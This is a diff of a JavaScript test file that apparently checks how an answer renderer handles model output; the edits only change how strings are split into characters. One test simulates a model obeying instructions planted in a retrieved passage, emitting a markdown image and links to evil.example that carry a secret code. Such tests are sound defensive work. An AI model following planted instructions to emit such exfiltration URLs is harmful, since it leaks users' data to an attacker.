@@ -92,7 +92,7 @@ test('a model that finds nothing says so, and its mark is not shown', async () =
     ' [None]: Nothing about dinner.',
     '[none]\n\nNothing about dinner.',
   ]) {
-    const { text, events } = await made(() => ({ text: [...answer] }))
+    const { text, events } = await made(() => ({ text: answer.split('') }))
     assert.equal(text, 'Nothing about dinner.', answer)
     assert.equal(events.filter(({ type }) => type === 'no-answer').length, 1)
   }
@@ -163,9 +163,9 @@ test('an obedient model that follows planted instructions gets no image, no fore
     (body) => {
       const code = /=== (\w+) passage 1 ===/.exec(context(body))?.[1] ?? ''
       return {
-        text: [
-          ...`${code} ![x](https://evil.example/?q=${code}) [win](https://evil.example) https://evil.example/${code} ok`,
-        ],
+        text: `${code} ![x](https://evil.example/?q=${code}) [win](https://evil.example) https://evil.example/${code} ok`.split(
+          '',
+        ),
       }
     },
     { passages: [planted, ...passages] },
